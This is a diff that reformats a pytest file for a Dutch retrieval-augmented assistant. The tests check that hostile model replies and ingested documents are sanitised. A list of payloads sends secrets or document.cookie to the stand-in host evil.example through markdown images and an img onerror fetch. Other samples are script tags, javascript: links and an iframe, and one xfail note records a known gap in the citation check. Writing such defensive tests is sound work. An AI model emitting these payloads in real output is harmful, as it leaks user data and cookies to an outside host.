@@ -31,13 +31,13 @@ plain_stream_text = export.plain_stream_text
 GROUNDED = "Uit het onderzoek blijkt dat 26 procent van de werknemers AI actief gebruikt [1]."
 EXFIL = [
     "![x](http://evil.example/?q=secret)",
-    "![x](https://evil.example/?q=secret \"titel\")",
+    '![x](https://evil.example/?q=secret "titel")',
     "![x][logo]\n\n[logo]: http://evil.example/?q=secret",
-    "<img src=\"http://evil.example/?q=secret\">",
+    '<img src="http://evil.example/?q=secret">',
     "<img src=x onerror=\"fetch('http://evil.example/?q='+document.cookie)\">",
     "[klik hier](http://evil.example/?q=secret)",
     "<http://evil.example/?q=secret>",
-    "<a href=\"javascript:alert(1)\">bron</a>",
+    '<a href="javascript:alert(1)">bron</a>',
     "![x](data:image/png;base64,iVBORw0KGgo=)",
     "!\n[x](http://evil.example/?q=secret)",
 ]
@@ -81,8 +81,13 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Settings:
 
 def _answer(settings: Settings, reply: str, question: str):  # noqa: ANN202 - Answer
     emb = make_embeddings(settings.embeddings)
-    assistant = Assistant(settings, Store(settings.store, emb), FakeChat(lambda m: reply), emb,
-                          Prompts.load(settings.prompts_dir))
+    assistant = Assistant(
+        settings,
+        Store(settings.store, emb),
+        FakeChat(lambda m: reply),
+        emb,
+        Prompts.load(settings.prompts_dir),
+    )
     return assistant.answer(question)
 
 
@@ -98,9 +103,12 @@ def test_exfiltration_through_the_whole_pipeline(hostile: Settings) -> None:
     assert targets and all(t.startswith("#bron-") for t in targets)  # only in-page anchors
 
 
-@pytest.mark.xfail(strict=True, reason="defence in depth: the citation check keeps a markdown "
-                   "image glued to a supported sentence, so Answer.text (audit log, CLI, any "
-                   "future caller) still carries it; only the page/export sanitizer removes it")
+@pytest.mark.xfail(
+    strict=True,
+    reason="defence in depth: the citation check keeps a markdown "
+    "image glued to a supported sentence, so Answer.text (audit log, CLI, any "
+    "future caller) still carries it; only the page/export sanitizer removes it",
+)
 def test_service_answer_itself_carries_no_image(hostile: Settings) -> None:
     reply = f"{GROUNDED} ![x](http://evil.example/?q=secret)"
     answer = _answer(hostile, reply, "Hoeveel procent van de werknemers gebruikt AI?")
@@ -108,8 +116,9 @@ def test_service_answer_itself_carries_no_image(hostile: Settings) -> None:
 
 
 def test_script_in_answer_is_removed(hostile: Settings) -> None:
-    out = sanitize_model_output(f"{GROUNDED} <script>alert(1)</script> "
-                                "<b onmouseover=alert(2)>vet</b>")
+    out = sanitize_model_output(
+        f"{GROUNDED} <script>alert(1)</script> <b onmouseover=alert(2)>vet</b>"
+    )
     assert "<script" not in out.lower() and "onmouseover" not in out
     assert not re.search(r"(?<!&lt;)<\w", out)
 
@@ -127,7 +136,8 @@ def test_script_in_a_document_is_shown_as_text(hostile: Settings) -> None:
     chunk = next(c for c in chunks if c.source == "veiligheid.txt")
     assert "<script>alert(1)</script>" in chunk.text  # stored as the document has it
     html_out = components.source_card_html(
-        components.SourceItem(1, chunk, ("<script>alert(1)</script> Klik nooit",)), "t1")
+        components.SourceItem(1, chunk, ("<script>alert(1)</script> Klik nooit",)), "t1"
+    )
     assert "<script" not in html_out and "<img" not in html_out
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html_out
     assert 'onerror="' not in html_out  # the attribute only as escaped text
@@ -153,19 +163,21 @@ def test_plain_escapes_markdown_in_titles_and_user_text() -> None:
 
 def test_highlight_escapes_quotes_and_text() -> None:
     components = _components()
-    chunk = Chunk(id="x:1:0", text='A <script>x</script> & "B"', source="x.txt", page=1,
-                  index=0)
+    chunk = Chunk(id="x:1:0", text='A <script>x</script> & "B"', source="x.txt", page=1, index=0)
     out = components.highlight_html(chunk.text, ["<script>x</script>"])
-    assert out == 'A <mark>&lt;script&gt;x&lt;/script&gt;</mark> &amp; &quot;B&quot;'
+    assert out == "A <mark>&lt;script&gt;x&lt;/script&gt;</mark> &amp; &quot;B&quot;"
 
 
 def test_html_document_scripts_are_not_indexed(tmp_path) -> None:  # noqa: ANN001
     from ingest.loaders import load_html
 
     page = tmp_path / "p.html"
-    page.write_text("<html><head><script>steel()</script></head><body><p>Tekst.</p>"
-                    "<script>alert(1)</script><iframe src='http://evil.example'></iframe>"
-                    "</body></html>", encoding="utf-8")
+    page.write_text(
+        "<html><head><script>steel()</script></head><body><p>Tekst.</p>"
+        "<script>alert(1)</script><iframe src='http://evil.example'></iframe>"
+        "</body></html>",
+        encoding="utf-8",
+    )
     text = " ".join(b.text for p in load_html(page).pages for b in p.blocks)
     assert "Tekst." in text and "alert" not in text and "steel" not in text
     assert "evil.example" not in text
